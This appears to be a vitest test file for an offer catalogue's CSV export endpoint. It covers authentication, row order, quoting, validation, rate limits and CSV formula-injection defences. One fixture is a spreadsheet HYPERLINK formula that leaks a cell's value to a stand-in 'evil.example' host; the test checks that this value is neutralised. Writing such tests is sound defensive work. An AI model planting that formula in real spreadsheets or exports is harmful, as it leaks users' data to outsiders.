// GET /api/offers/export.csv (issue #14): only for signed-in users; the file is
// the search itself (the same ids in the same order as the search's pages, the
// same values), capped at 1,000 rows; UTF-8 with a BOM, CRLF, RFC 4180 quoting
// that csv-parse reads back exactly; formula-looking cells neutralised; bad
// parameters 400; more than 10 exports a minute 429 with Retry-After.
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import fc from "fast-check";
import { parse } from "csv-parse/sync";
import { sql } from "#db/client.ts";
import {
  OFFERS_MAX_PAGE,
  offerSearchToUrl,
  type AdminOffer,
  type OfferListItem,
  type OfferSearch,
  type OfferSearchResult,
} from "#contracts/offers.ts";
import { csvField, csvLine, EXPORT_COLUMNS, exportSearchFromUrl } from "#core/offers/export.ts";
import { exportHref } from "#app/routes/offers/ExportLink.tsx";
import { createTestApp, type TestApp } from "../helpers/app.ts";
import { signInWithRoles } from "../helpers/staff.ts";

let t: TestApp;
let user: Awaited<ReturnType<typeof signInWithRoles>>;
let admin: Awaited<ReturnType<typeof signInWithRoles>>;
let networkId: number;

/** The column names are a contract (docs/api.md): spelled out here so that renaming one fails. */
const HEADER = [
  "offer_id",
  "offer",
  "network_id",
  "network",
  "payout",
  "type",
  "geos",
  "vertical",
  "date",
  "sponsored",
  "pinned",
  "new",
  "payout_change",
  "payout_change_usd",
  "payout_change_percent",
  "payout_changed_at",
  "payout_amount",
  "payout_percent",
  "payout_currency",
  "payout_type",
  "countries",
  "verticals",
  "listed_at",
  "offer_url",
  "network_url",
];

beforeAll(async () => {
  // More active offers than an export holds, so the cap is exercised.
  t = await createTestApp({ seed: { networks: 4, offers: 1300, trafficSources: 1 } });
  user = await signInWithRoles(t, [], "Avery Affiliate");
  admin = await signInWithRoles(t, ["admin"], "Ada Admin");
  [{ id: networkId }] = await t.db.query<{ id: number }>(sql`SELECT id FROM networks ORDER BY id LIMIT 1`);
}, 120_000);
afterAll(() => t?.close());

const exportCsv = (query: string, headers: Record<string, string> = user.headers) =>
  t.app.inject({ method: "GET", url: `/api/offers/export.csv${query ? `?${query}` : ""}`, headers });

type Row = Record<(typeof HEADER)[number], string>;
/** The file's rows as csv-parse reads them (BOM dropped by csv-parse's `bom` option, header checked). */
function rowsOf(body: string): Row[] {
  const records = parse(body, { bom: true }) as string[][];
  expect(records[0]).toEqual(HEADER);
  return records.slice(1).map((r) => Object.fromEntries(HEADER.map((name, i) => [name, r[i]])) as Row);
}

/** Every page of the same search through the JSON API, concatenated. */
async function searchPages(
  payload: Record<string, unknown>,
): Promise<{ rows: OfferListItem[]; first: OfferSearchResult }> {
  const rows: OfferListItem[] = [];
  let first: OfferSearchResult | undefined;
  for (let page = 1; page <= OFFERS_MAX_PAGE; page++) {
    const res = await t.app.inject({ method: "POST", url: "/api/offers/search", payload: { ...payload, page } });
    expect(res.statusCode, res.body).toBe(200);
    const result = res.json<OfferSearchResult>();
    first ??= result;
    rows.push(...result.offers);
    if (result.offers.length < result.pageSize) break;
  }
  return { rows, first: first! };
}

describe("who may export", () => {
  it("answers 401 { message } without a session, and never a file", async () => {
    const res = await exportCsv("", {});
    expect(res.statusCode).toBe(401);
    expect(res.headers["content-type"]).toMatch(/^application\/json/);
    expect(res.json()).toEqual({ message: "You must be logged in" });
  });
});

describe("the file", () => {
  it("is the search's first 1,000 rows, in its order, with the download headers, a BOM and CRLF lines", async () => {
    const res = await exportCsv("");
    expect(res.statusCode, res.body.slice(0, 200)).toBe(200);
    expect(res.headers["content-type"]).toBe("text/csv; charset=utf-8");
    const today = new Date().toISOString().slice(0, 10);
    expect(res.headers["content-disposition"]).toBe(`attachment; filename="offeratlas-offers-${today}.csv"`);
    expect(res.headers["cache-control"]).toBe("no-store");
    // The BOM is the first three bytes of the UTF-8 body, not a character the parser must guess.
    expect([...res.rawPayload.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const lines = res.body.split("\r\n");
    expect(lines[0]).toBe(`\ufeff${HEADER.join(",")}`);
    expect(lines.at(-1)).toBe(""); // the last line ends with CRLF too

    const rows = rowsOf(res.body);
    const { rows: searched, first } = await searchPages({});
    // More matches than the cap: the export stops at 1,000, exactly the search's 40 pages.
    expect(first.totalCapped).toBe(true);
    expect(rows).toHaveLength(1000);
    expect(rows.map((r) => Number(r.offer_id))).toEqual(searched.map((o) => o.id));
    expect(new Set(rows.map((r) => r.offer_id)).size).toBe(1000);
    // Sponsored pins stay where page 1 shows them, once.
    const pinned = first.offers.filter((o) => o.pinned).map((o) => String(o.id));
    expect(rows.slice(0, pinned.length).map((r) => r.offer_id)).toEqual(pinned);
    expect(rows.filter((r) => r.pinned === "true").map((r) => r.offer_id)).toEqual(pinned);
  });

  it("carries the rows' values: table text, raw values and absolute URLs, for the page's own parameters", async () => {
    const state: OfferSearch = {
      ...exportSearchFromUrl(new URLSearchParams()),
      networks: [networkId],
      sortBy: "payout",
      sortDesc: false,
    };
    const res = await exportCsv(offerSearchToUrl({ ...state, page: 3 }));
    expect(res.statusCode, res.body.slice(0, 200)).toBe(200);
    const rows = rowsOf(res.body);
    const { rows: searched } = await searchPages({ networks: [networkId], sortBy: "payout", sortDesc: false });
    expect(searched.length).toBeGreaterThan(25); // several pages, and the export ignored page=3
    expect(rows.map((r) => Number(r.offer_id))).toEqual(searched.map((o) => o.id));
    const origin = t.config.publicUrl;
    rows.forEach((row, i) => {
      const o = searched[i];
      expect(row).toMatchObject({
        offer: o.name,
        network_id: String(o.networkId),
        network: o.networkName,
        payout_amount: o.payoutAmount === null ? "" : String(o.payoutAmount),
        payout_percent: o.payoutPercent === null ? "" : String(o.payoutPercent),
        payout_currency: o.currency.code,
        payout_type: o.payoutType,
        countries: o.countries.join("; "),
        verticals: o.categories.join("; "),
        listed_at: o.createdAt,
        sponsored: String(o.sponsored),
        new: String(o.isNew),
        payout_change: o.payoutChange?.direction ?? "",
        offer_url: `${origin}/offer/${o.id}/${o.slug}`,
        network_url: `${origin}/network/${o.networkId}/${o.networkSlug}`,
      });
    });
    // The shown columns, for one row whose text is known: "$12.50", "CPL", "US, CA", the date.
    const [{ id }] = await t.db.query<{ id: number }>(
      sql`SELECT id FROM offers WHERE network_id = ${networkId} LIMIT 1`,
    );
    await t.db.query(sql`
      UPDATE offers SET payout_amount = 12.5, payout_percent = NULL, currency = 'USD', payout_type = 'pay-per-call',
        countries = ARRAY['US', 'CA', 'GB', 'DE', 'FR'], created_at = '2026-06-17T08:00:00Z' WHERE id = ${id}`);
    t.app.services.offers.catalogueChanged();
    const again = rowsOf((await exportCsv(`networks=${networkId}`)).body).find((r) => r.offer_id === String(id));
    expect(again).toMatchObject({
      payout: "$12.50",
      type: "Pay Per Call",
      payout_type: "pay-per-call",
      geos: "US, CA, GB, DE +1",
      countries: "US; CA; GB; DE; FR",
      date: "Jun 17, 2026",
      listed_at: "2026-06-17T08:00:00.000Z",
    });
  });

  it("neutralises formula cells and quotes commas, quotes and line breaks so they read back exactly", async () => {
    const create = async (name: string) => {
      const res = await t.app.inject({
        method: "POST",
        url: "/api/admin/offers",
        headers: admin.headers,
        payload: { name, networkId, payoutType: "CPA", payoutAmount: 10, currency: "USD", countries: ["US"] },
      });
      expect(res.statusCode, res.body).toBe(201);
      return res.json<AdminOffer>().id;
    };
    const names = {
      hyperlink: '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
      plus: "+1-800 Call Leads",
      minus: "-50% Solar",
      at: "@SUM(A1:A9)",
      quoting: 'Solar, "Premium"\nSecond line\r\nThird',
      plain: "Plain Solar Leads",
    };
    const ids = Object.fromEntries(
      await Promise.all(Object.entries(names).map(async ([k, name]) => [k, await create(name)] as const)),
    );
    // A leading tab or carriage return cannot come through the form (names are trimmed); straight into the row.
    await t.db.query(sql`UPDATE offers SET name = ${"\tTabbed Leads"} WHERE id = ${ids.plain}`);
    t.app.services.offers.catalogueChanged();

    const res = await exportCsv(`networks=${networkId}&sortBy=newest`);
    expect(res.statusCode, res.body.slice(0, 200)).toBe(200);
    const byId = new Map(rowsOf(res.body).map((r) => [Number(r.offer_id), r]));
    expect(byId.get(ids.hyperlink)?.offer).toBe(`'${names.hyperlink}`);
    expect(byId.get(ids.plus)?.offer).toBe(`'${names.plus}`);
    expect(byId.get(ids.minus)?.offer).toBe(`'${names.minus}`);
    expect(byId.get(ids.at)?.offer).toBe(`'${names.at}`);
    expect(byId.get(ids.plain)?.offer).toBe("'\tTabbed Leads");
    expect(byId.get(ids.quoting)?.offer).toBe(names.quoting);
    // On the wire: the formula quoted with its quotes doubled, behind the apostrophe.
    expect(res.body).toContain(`,"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")",`);
    expect(res.body).toContain(`,"Solar, ""Premium""\nSecond line\r\nThird",`);
  });
});

describe("refusals", () => {
  it("answers 400 { message } for parameters a page would quietly drop", async () => {
    const cases: [string, RegExp][] = [
      ["selectedTab=nope", /^selectedTab must be one of/],
      ["sortBy=price", /^sortBy must be one of/],
      ["countries=USA", /two-letter country codes/],
      ["networks=abc", /networks/],
      ["sortDesc=maybe", /sortDesc must be true or false/],
      [`search=${"a".repeat(201)}`, /query must be at most 200 characters long/],
    ];
    for (const [query, message] of cases) {
      const res = await exportCsv(query);
      expect(res.statusCode, query).toBe(400);
      expect(res.json<{ message: string }>().message, query).toMatch(message);
    }
  });

  it("allows 10 exports a minute per user, then 429 with Retry-After; refused requests do not count", async () => {
    const busy = await signInWithRoles(t, [], "Busy Bee");
    // A filter matching nothing keeps each export cheap.
    const none = "countries=ZZ";
    expect((await exportCsv("selectedTab=nope", busy.headers)).statusCode).toBe(400);
    for (let i = 0; i < 10; i++) expect((await exportCsv(none, busy.headers)).statusCode).toBe(200);
    const refused = await exportCsv(none, busy.headers);
    expect(refused.statusCode).toBe(429);
    const retryAfter = Number(refused.headers["retry-after"]);
    expect(retryAfter).toBeGreaterThanOrEqual(1);
    expect(retryAfter).toBeLessThanOrEqual(60);
    expect(refused.json()).toEqual({ message: expect.any(String) });
    // The limit is per user: another account still exports.
    const other = await signInWithRoles(t, [], "Other Person");
    expect((await exportCsv(none, other.headers)).statusCode).toBe(200);
  });
});

describe("CSV fields (property tests)", () => {
  // Text with the characters that matter to CSV and to spreadsheets, in any place.
  const tricky = fc.string({
    unit: fc.oneof(
      fc.constantFrom(",", '"', "\r", "\n", "\t", "=", "+", "-", "@", "'", " ", "é", "😀"),
      fc.string({ minLength: 1, maxLength: 1 }),
    ),
    maxLength: 30,
  });

  it("any text reads back through csv-parse as itself, with an apostrophe before a formula start", () => {
    fc.assert(
      fc.property(fc.array(tricky, { minLength: 1, maxLength: 6 }), (fields) => {
        const [record] = parse(csvLine(fields), { relax_column_count: false }) as string[][];
        expect(record).toEqual(fields.map((f) => (/^[=+\-@\t\r]/.test(f) ? `'${f}` : f)));
      }),
      { numRuns: 500 },
    );
  });

  it("no field ever starts a formula, quoted or not", () => {
    fc.assert(
      fc.property(tricky, (text) => {
        const field = csvField(text);
        expect(field.replace(/^"/, "")).not.toMatch(/^[=+\-@\t\r]/);
        // Quoted exactly when it must be (RFC 4180 §2.6), quotes doubled inside (§2.7).
        if (/[",\r\n]/.test(text)) expect(field).toMatch(/^"([^"]|"")*"$/);
        else expect(field.startsWith('"')).toBe(false);
      }),
      { numRuns: 500 },
    );
  });

  it("writes numbers, booleans and missing values plainly", () => {
    expect(csvLine([12.5, 0, true, false, null, ""])).toBe("12.5,0,true,false,,\r\n");
    expect(EXPORT_COLUMNS.map((c) => c.name)).toEqual(HEADER);
  });

  it("reads the search back from the home page's own URL (the names offerSearchToUrl writes)", () => {
    const state: OfferSearch = {
      query: "solar leads",
      page: 1,
      sortBy: "name",
      sortDesc: true,
      networks: [3, 1],
      countries: ["US", "CA"],
      categories: [7],
      selectedTab: "newest",
    };
    expect(exportSearchFromUrl(new URLSearchParams(offerSearchToUrl({ ...state, page: 9 })))).toEqual(state);
    expect(exportSearchFromUrl(new URLSearchParams("ppc=true")).ppc).toBe(true);
    // The page's link carries the same search, the pay-per-call page's fixed filter too, and no page.
    const href = new URL(exportHref({ ...state, ppc: true, page: 4 }), "http://localhost");
    expect(href.pathname).toBe("/api/offers/export.csv");
    expect(href.searchParams.has("page")).toBe(false);
    expect(exportSearchFromUrl(href.searchParams)).toEqual({ ...state, ppc: true });
  });
});
